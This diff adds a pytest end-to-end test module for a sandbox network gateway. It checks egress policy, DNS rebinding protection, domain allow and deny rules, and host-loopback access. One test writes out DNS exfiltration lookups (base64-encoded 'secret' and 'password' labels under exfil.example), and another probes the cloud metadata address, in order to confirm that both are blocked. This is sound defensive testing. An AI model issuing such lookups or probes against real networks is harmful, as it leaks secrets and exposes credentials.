@@ -1,0 +1,285 @@
+"""End to end: guest netns -> fake VMM -> the C gateway (netstack.Gateway) -> TapUplink ->
+upstream netns with TEST-NET servers. Real kernels, real curl/dig/ping, no mocks.
+
+One topology + uplink per module (host loopback enabled, so the gateway's policy is what
+decides about the ``host`` group); one Gateway per test on the fake VMM's stream socket.
+TEST-NET answers count as reserved for DNS rebind protection, so scenarios that resolve
+names turn it off (``rebind_protection=False``, a test-only knob) - except the rebind
+test itself.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from netstack import AddressPlan, Gateway, NetworkPolicy, Rule, TapUplink, cleanup_stale
+from netstack.errors import GatewayError
+from tests.netstack_gateway.kernel_objects import snapshot
+from tests.netstack_gateway.topology import (
+    UPSTREAM_DNS_IP,
+    UPSTREAM_IP,
+    UPSTREAM_NAME,
+    Topology,
+)
+from tests.support import require_binaries, require_root
+
+pytestmark = pytest.mark.timeout(60)
+
+
+class Rig:
+    def __init__(self, topo: Topology, uplink: TapUplink, tmp: Path) -> None:
+        self.topo, self.uplink, self.tmp = topo, uplink, tmp
+
+    def gateway(self, policy: NetworkPolicy, **kw: object) -> Gateway:
+        assert self.topo.vmm_socket is not None
+        return Gateway(policy, uplink=self.uplink, guest_fd=self.topo.vmm_socket.fileno(),
+                       dns_upstreams=[UPSTREAM_DNS_IP], **kw)  # type: ignore[arg-type]
+
+    def run(self, argv: list[str], timeout: float = 20) -> subprocess.CompletedProcess[str]:
+        return self.topo.run_in_guest(argv, timeout=timeout)
+
+    def curl(self, *args: str, max_time: int = 8) -> tuple[int, str, float]:
+        t0 = time.monotonic()
+        r = self.run(["curl", "-sS", "--max-time", str(max_time), *args], timeout=max_time + 10)
+        return r.returncode, r.stdout + r.stderr, time.monotonic() - t0
+
+    def dig(self, name: str, *extra: str) -> str:
+        gw = str(self.topo.plan.gateway_ipv4)
+        r = self.run(["dig", f"@{gw}", "+time=3", "+tries=1", *extra, name, "A"])
+        return r.stdout + r.stderr
+
+
+@pytest.fixture(scope="module")
+def rig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rig]:
+    require_root()
+    require_binaries("ip", "nft", "curl", "dig", "ping")
+    tmp = tmp_path_factory.mktemp("gwe2e")
+    before = snapshot()
+    home = tmp / "home"
+    plan = AddressPlan(3201)
+    uplink = topo = None
+    try:
+        uplink = TapUplink("gw-e2e", plan, host_loopback=True, home=home)
+        topo = Topology(plan, tmp, token=f"{os.getpid() % 0xFFFF:04x}e")
+        yield Rig(topo, uplink, tmp)
+    finally:
+        if topo is not None:
+            topo.close()
+        if uplink is not None:
+            uplink.close()
+        cleanup_stale(home)
+        assert snapshot().ours() == before.ours()
+
+
+@pytest.fixture(scope="module")
+def host_service() -> Iterator[int]:
+    class H(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = b"hello from the host loopback\n"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), H)
+    threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True).start()
+    try:
+        yield server.server_address[1]
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+_UDP_PROBE = r"""
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(3)
+s.connect((sys.argv[1], int(sys.argv[2])))
+s.send(b"ping")
+try:
+    s.recv(100)
+    print("answered")
+except ConnectionRefusedError:
+    print("refused")
+except TimeoutError:
+    print("timeout")
+"""
+
+
+def _tls(rig: Rig, sni: str, path: str = "/tls") -> tuple[int, str, float]:
+    return rig.curl("--cacert", str(rig.topo.ca_file), "--resolve", f"{sni}:443:{UPSTREAM_IP}",
+                    f"https://{sni}{path}")
+
+
+# -- default policy -----------------------------------------------------------------------
+def test_default_policy_public_allowed_private_and_metadata_fail_fast(rig: Rig) -> None:
+    with rig.gateway(NetworkPolicy.public_only()) as gw:
+        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/public")
+        assert rc == 0 and out.startswith("hello from upstream /public"), out
+        rc, out, _ = _tls(rig, UPSTREAM_NAME)
+        assert rc == 0 and out.startswith("hello from upstream /tls"), out
+        for ip in ("10.1.2.3", "192.168.7.7", "169.254.169.254"):
+            rc, out, took = rig.curl(f"http://{ip}/")
+            assert rc == 7, (ip, out)  # RST: "Failed to connect ... after 0 ms"
+            assert took < 5, took
+        r = rig.run(["python3", "-c", _UDP_PROBE, "10.9.9.9", "5000"])
+        assert r.stdout.strip() == "refused", r.stdout + r.stderr  # ICMP port unreachable
+        stats = gw.stats()
+        assert stats["rst_sent"] >= 3 and stats["icmp_sent"] >= 1, stats
+        assert stats["verdicts"]["allow"] > 0 and stats["to_guest"] > 0
+        hits = gw.rule_counters()
+        assert hits[1].hits >= 2  # "allow egress group public"
+        assert hits[-2].hits >= 4  # the egress default (deny)
+
+
+def test_icmp_echo_to_allowed_destination_only(rig: Rig) -> None:
+    with rig.gateway(NetworkPolicy.public_only()):
+        r = rig.run(["ping", "-c", "1", "-W", "3", UPSTREAM_IP])
+        assert r.returncode == 0, r.stdout + r.stderr
+        r = rig.run(["ping", "-c", "1", "-W", "1", "10.1.2.3"])
+        assert r.returncode != 0
+
+
+# -- DNS ------------------------------------------------------------------------------------
+def test_rebinding_answer_is_nxdomain(rig: Rig) -> None:
+    # protection on (the default) and no address-only rule exempting the TEST-NET answer
+    with rig.gateway(_domain_policy()) as gw:
+        out = rig.dig(UPSTREAM_NAME)
+        assert "status: NXDOMAIN" in out, out
+        assert gw.stats()["dns"]["rebind_blocked"] >= 1
+    # an address-only allow rule for the range exempts it (public_only: group public)
+    with rig.gateway(NetworkPolicy.public_only()):
+        assert UPSTREAM_IP in rig.dig(UPSTREAM_NAME, "+short")
+
+
+def test_none_blocks_dns_and_everything(rig: Rig) -> None:
+    with rig.gateway(NetworkPolicy.none(), rebind_protection=False):
+        out = rig.dig(UPSTREAM_NAME)
+        assert "status: NXDOMAIN" in out, out
+        rc, out, took = rig.curl(f"http://{UPSTREAM_IP}/")
+        assert rc == 7 and took < 5, out
+
+
+def _domain_policy() -> NetworkPolicy:
+    # no allow_dns_rule(): its "group host port 53" would admit every DNS query; all guest
+    # DNS reaches the forwarder anyway, which asks evaluate_dns per name
+    return NetworkPolicy.custom(rules=[Rule.allow(UPSTREAM_NAME, protocol="tcp")])
+
+
+def test_domain_allow_rule_admits_only_that_name(rig: Rig) -> None:
+    with rig.gateway(_domain_policy(), rebind_protection=False) as gw:
+        # no DNS answer has named the address yet: a direct-IP connection is reset
+        rc, out, took = rig.curl(f"http://{UPSTREAM_IP}/direct")
+        assert rc == 7 and took < 5, out
+        # by DNS: the allowed name resolves (and pins the address), others do not
+        out = rig.dig(UPSTREAM_NAME, "+short")
+        assert UPSTREAM_IP in out, out
+        assert "status: NXDOMAIN" in rig.dig("other.upstream.test")
+        # by SNI: the allowed name works; a denied SNI to the same address is reset
+        rc, out, _ = _tls(rig, UPSTREAM_NAME)
+        assert rc == 0 and out.startswith("hello from upstream /tls"), out
+        rc, out, took = rig.curl("-k", "--resolve", f"other.test:443:{UPSTREAM_IP}",
+                                 "https://other.test/")
+        assert rc in (35, 56) and "reset" in out.lower() and took < 5, out
+        # plain HTTP to the pinned address (no SNI): decided by the pinned name
+        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/pinned")
+        assert rc == 0 and out.startswith("hello from upstream /pinned"), out
+        stats = gw.stats()
+        assert stats["dns"]["denied"] >= 1 and stats["held"] + stats["released"] >= 0
+
+
+def test_dns_exfiltration_under_allowlist_fails(rig: Rig) -> None:
+    with rig.gateway(_domain_policy(), rebind_protection=False) as gw:
+        for label in ("c2VjcmV0", "cGFzc3dvcmQ"):
+            out = rig.dig(f"{label}.exfil.example")
+            assert "status: NXDOMAIN" in out, out
+        # also when the guest picks its own resolver: still intercepted, still denied
+        r = rig.run(["dig", f"@{UPSTREAM_DNS_IP}", "+time=3", "+tries=1",
+                     "c2VjcmV0.exfil.example", "A"])
+        assert "status: NXDOMAIN" in r.stdout, r.stdout + r.stderr
+        stats = gw.stats()["dns"]
+        assert stats["forwarded"] == 0 and stats["denied"] == 3, stats
+
+
+def test_deny_domains_win_over_allows(rig: Rig) -> None:
+    policy = NetworkPolicy.custom(rules=[Rule.allow(".upstream.test", protocol="tcp")],
+                                  deny_domains=[UPSTREAM_NAME])
+    with rig.gateway(policy, rebind_protection=False):
+        assert "status: NXDOMAIN" in rig.dig(UPSTREAM_NAME)
+        out = rig.dig("alias.upstream.test", "+short")  # allowed by the suffix: pins the IP
+        assert UPSTREAM_IP in out, out
+        rc, out, took = _tls(rig, UPSTREAM_NAME)  # the denied name as SNI: reset
+        assert rc != 0 and took < 5, out
+        rc, out, _ = rig.curl("-k", "--resolve", f"alias.upstream.test:443:{UPSTREAM_IP}",
+                              "https://alias.upstream.test/ok")
+        assert rc == 0 and "hello from upstream /ok" in out, out
+
+
+# -- host group -----------------------------------------------------------------------------
+def test_host_group_only_when_allowed(rig: Rig, host_service: int) -> None:
+    gw_ip = str(rig.topo.plan.gateway_ipv4)
+    with rig.gateway(NetworkPolicy.public_only()):
+        rc, out, took = rig.curl(f"http://{gw_ip}:{host_service}/")
+        assert rc == 7 and took < 5, out
+    with rig.gateway(NetworkPolicy.from_profiles("public", "host")):
+        rc, out, _ = rig.curl(f"http://{gw_ip}:{host_service}/")
+        assert rc == 0 and out == "hello from the host loopback\n", out
+
+
+# -- plumbing -------------------------------------------------------------------------------
+def test_pcap_records_what_crossed(rig: Rig) -> None:
+    path = rig.tmp / "gw.pcapng"
+    with rig.gateway(NetworkPolicy.public_only(), pcap=path):
+        rc, out, _ = rig.curl(f"http://{UPSTREAM_IP}/cap")
+        assert rc == 0, out
+        rig.curl("http://10.1.2.3/")
+    data = path.read_bytes()
+    assert data[:4] == b"\x0a\x0d\x0d\x0a" and len(data) > 1000
+    assert b"deny-with-reset" in data and b"allow" in data
+
+
+def test_bad_arguments_are_typed_errors(rig: Rig) -> None:
+    with pytest.raises(GatewayError, match="transport"):
+        Gateway(NetworkPolicy.none(), uplink=rig.uplink, guest_fd=0,
+                transport="carrier-pigeon")  # type: ignore[arg-type]
+    with pytest.raises(GatewayError, match="exactly one"):
+        Gateway(NetworkPolicy.none(), uplink=rig.uplink)
+    with pytest.raises(GatewayError, match="published_ports"):
+        Gateway(NetworkPolicy.none(), uplink=rig.uplink, guest_fd=0, published_ports=[8080])
+
+
+def test_close_is_idempotent_and_stops_the_loop(rig: Rig) -> None:
+    gw = rig.gateway(NetworkPolicy.public_only())
+    threads = threading.active_count()
+    gw.close()
+    gw.close()
+    assert gw.closed
+    assert threading.active_count() < threads
+    with pytest.raises(GatewayError, match="closed"):
+        gw.stats()
+
+
+def test_socket_transport_owned(tmp_path: Path) -> None:
+    """A gateway given a socket object owns it and closes it."""
+    require_root()
+    a, b = socket.socketpair()
+    home = tmp_path / "home"
+    with TapUplink("gw-e2e-own", AddressPlan(3202), home=home) as up:
+        gw = Gateway(NetworkPolicy.none(), uplink=up, guest_socket=a,
+                     dns_upstreams=["192.0.2.53"])
+        gw.close()
+        assert a.fileno() == -1
+    b.close()
+    cleanup_stale(home)
